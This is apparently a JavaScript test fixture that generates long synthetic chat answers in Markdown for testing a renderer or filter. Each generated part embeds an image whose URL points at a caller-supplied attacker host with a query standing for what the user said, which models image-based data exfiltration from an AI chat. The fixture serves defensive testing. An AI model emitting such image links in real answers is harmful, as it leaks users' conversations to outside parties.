// A chat's answer in Markdown, of any length, with an image every two kilobytes that leads to an attacker.

const part = (at, evil) => `## Step ${at}: look at what the server returned

The report of *quarter ${at}* has **${at * 7} orders**, of which \`${at % 5}\` are open; see [the list](https://example.com/list?${at})
and what follows from it. A paragraph of some length stands here, as answers have it, with a second sentence about
the same thing and a third that ends it.

- the first of three things, with a [link](https://example.com/${at})
- the second, which is **important**
  - and a thing below it
- the third

| region | orders | change |
|:--|--:|:-:|
| north | ${at * 3} | +2 % |
| south | ${at * 4} | −1 % |

\`\`\`js
export function total(orders) {
  return orders.filter((order) => order.open).reduce((sum, order) => sum + order.amount, ${at});
}
\`\`\`

> What is quoted is quoted, and goes on for a line
> and another one.

1. Ask for the numbers of *${at}*.
2. Compare them with last year's.
3. Write down what is left, and ~~guess~~ check the rest.

![chart](${evil}/${at}?q=what-the-reader-said)

The last words of this part say what comes next: another part, with other numbers, until the answer ends. Some answers
are short and some are long, but each arrives a few letters at a time.

`;

/** So many characters, which end where a line does. */
export function answer(length, evil) {
  let text = "";
  for (let at = 1; text.length < length; at++) text += part(at, evil);
  return `${text.slice(0, text.lastIndexOf("\n", length) + 1)}\n\nAnd that is all.\n`;
}
